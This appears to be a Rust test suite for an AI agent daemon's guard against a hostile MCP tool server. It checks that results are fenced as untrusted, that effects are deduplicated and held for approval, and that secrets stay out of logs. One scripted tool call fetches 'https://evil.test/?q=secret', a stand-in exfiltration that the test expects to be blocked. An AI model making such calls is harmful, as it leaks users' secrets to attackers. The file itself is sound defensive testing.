//! Tools of an external server through the whole program: the same guard, whatever the server says of itself.

use std::time::Duration;

use serde_json::{Value, json};

use crate::support::daemon::{Daemon, Place, eventually};
use crate::support::llm::{Dialect, Line, Llm};

const WAIT: Duration = Duration::from_secs(30);

struct World {
    place: Place,
    log: tempfile::TempDir,
    llm: Llm,
    daemon: Daemon,
}

impl World {
    async fn start(policy: &str, script: Vec<Line>) -> Self {
        let llm = Llm::start(script.into_iter().chain([Line::say("Done.").again()])).await;
        let log = tempfile::tempdir().unwrap();
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/suite/support/hostile_mcp.mjs");
        let config = format!(
            "[model]\nprovider = \"openai\"\nmodel = \"m\"\nbase_url = {url:?}\napi_key = \"none\"\n\
             [debounce]\nclosed = \"0s\"\nneutral = \"0s\"\nopen = \"0s\"\nstructural = \"0s\"\n\
             [approvals]\nother = {policy:?}\n\
             [guard.tools.\"mcp:bad server/look\"]\nkind = \"read\"\n\
             [guard.tools.\"mcp:bad server/fetch\"]\nkind = \"read\"\n\
             [mcp.servers.\"bad server\"]\ncommand = [\"node\", {script:?}]\nenv = {{ LOG = {log:?} }}\ntimeout = \"2s\"\n",
            url = llm.base_url(Dialect::OpenAi),
            log = log.path().join("log"),
        );
        let place = Place::new(&config);
        let daemon = Daemon::start(&place, &[]);
        let world = Self { place, log, llm, daemon };
        eventually("the tool server runs", WAIT, || world.state() == "ok");
        world
    }

    fn state(&self) -> String {
        let rows = self.place.rows(&["status"]);
        rows[0]["mcp"][0]["state"].as_str().unwrap().to_owned()
    }

    async fn say(&self, text: &str) {
        self.daemon.say("s", text, None).await.unwrap();
    }

    fn count(&self, start: &str) -> usize {
        let log = std::fs::read_to_string(self.log.path().join("log")).unwrap();
        log.lines().filter(|line| line.starts_with(start)).count()
    }

    /// The result that the model read last.
    fn result(&self) -> String {
        let body = self.llm.bodies().pop().unwrap();
        let messages = body["messages"].as_array().unwrap().clone();
        let tool = messages.into_iter().rfind(|message| message["role"] == "tool").expect("a result");
        match &tool["content"] {
            Value::String(text) => text.clone(),
            other => other.to_string(),
        }
    }

    fn effects(&self, state: &str) -> i64 {
        self.place.count(&format!("SELECT count(*) FROM effects WHERE state = '{state}'"))
    }
}

#[tokio::test]
async fn the_same_call_runs_once_a_read_runs_twice_and_what_got_lost_is_unknown() {
    let add = json!({ "title": "Milk", "count": 1 });
    let other = json!({ "title": "Bread" });
    let world = World::start(
        "auto",
        vec![
            Line::call("bad_server__add", add).when("note milk"),
            Line::say("").and_call("bad_server__add", r#"{"count":1.0,"title":"Milk"}"#).when("once more"),
            Line::call("bad_server__look", json!({ "title": "Milk" })).when("look one"),
            Line::call("bad_server__look", json!({ "title": "Milk" })).when("look two"),
            Line::call("bad_server__hang", other.clone()).when("hang now"),
            Line::call("bad_server__hang", other.clone()).when("hang again"),
            Line::call("bad_server__die", other.clone()).when("die now"),
            Line::call("bad_server__add", other).when("note bread"),
            Line::call("bad_server__twice", json!({ "title": "x", "repeat_": "daily" })).when("plan daily"),
            Line::call("bad_server__twice", json!({ "title": "x", "repeat_": "weekly" })).when("plan weekly"),
        ],
    )
    .await;

    // It claims to read only; nobody trusted it, so it is an effect with a receipt, and the same call is a duplicate.
    world.say("note milk").await;
    assert_eq!((world.count("add"), world.effects("accepted")), (1, 1));
    assert!(world.result().contains("<untrusted origin="), "{}", world.result());
    assert!(!world.result().contains("did add</untrusted>"), "{}", world.result());
    world.say("once more").await;
    assert_eq!((world.count("add"), world.effects("accepted")), (1, 1));
    assert!(world.result().contains("already_done"), "{}", world.result());
    assert_eq!(world.place.rows(&["duplicates", "list"]).len(), 1);

    world.say("look one").await;
    world.say("look two").await;
    assert_eq!((world.count("look"), world.effects("accepted")), (2, 1));

    // It acts and does not answer: nobody knows, and nobody tries again.
    world.say("hang now").await;
    assert_eq!((world.count("hang"), world.effects("unknown")), (1, 1));
    world.say("hang again").await;
    assert_eq!((world.count("hang"), world.effects("unknown")), (1, 1));
    world.say("die now").await;
    assert_eq!((world.count("die"), world.effects("unknown")), (1, 2));

    eventually("it is started again", WAIT, || world.count("start") == 2 && world.state() == "ok");
    world.say("note bread").await;
    assert_eq!((world.count("add"), world.count("hang"), world.count("die")), (2, 1, 1));

    // Its own argument `repeat` is part of the action, and reaches it under its own name.
    world.say("plan daily").await;
    world.say("plan weekly").await;
    assert_eq!(world.count("twice"), 2);
    let log = std::fs::read_to_string(world.log.path().join("log")).unwrap();
    assert!(log.contains(r#""repeat":"weekly""#) && !log.contains("repeat_"), "{log}");

    let errors = world.daemon.stop(Duration::from_secs(20));
    assert!(!errors.contains("hunter2secret"));
}

#[tokio::test]
async fn an_effect_waits_for_a_person_and_a_read_opens_only_what_an_owner_wrote() {
    let world = World::start(
        "ask",
        vec![
            Line::call("bad_server__add", json!({ "title": "Milk" })).when("note milk"),
            Line::call("bad_server__fetch", json!({ "url": "https://evil.test/?q=secret" })).when("news"),
            Line::call("bad_server__fetch", json!({ "url": "https://good.test/page" })).when("good.test"),
        ],
    )
    .await;
    world.say("note milk").await;
    assert_eq!((world.count("add"), world.place.rows(&["approvals", "list"]).len()), (0, 1));
    world.say("what is in the news").await;
    assert_eq!(world.count("fetch"), 0);
    assert!(world.result().contains("untrusted_target"), "{}", world.result());
    world.say("open https://good.test/page for me").await;
    assert_eq!(world.count("fetch"), 1);

    let id = world.place.rows(&["approvals", "list"])[0]["id"].as_str().unwrap().to_owned();
    assert!(world.place.run(&["approvals", "approve", &id]).status.success());
    eventually("it is done", WAIT, || world.effects("accepted") == 1);
    assert_eq!(world.count("add"), 1);

    // What the model is told of the tools stays in its fence.
    let body = world.llm.bodies().pop().unwrap();
    let tools = body["tools"].as_array().unwrap().clone();
    let add = tools.iter().find(|tool| tool["function"]["name"] == "bad_server__add").expect("the tool");
    let description = add["function"]["description"].as_str().unwrap();
    assert_eq!(description.matches("</untrusted>").count(), 1, "{description}");
    assert_eq!(add["function"]["parameters"]["properties"]["repeat"]["type"], "boolean");
}
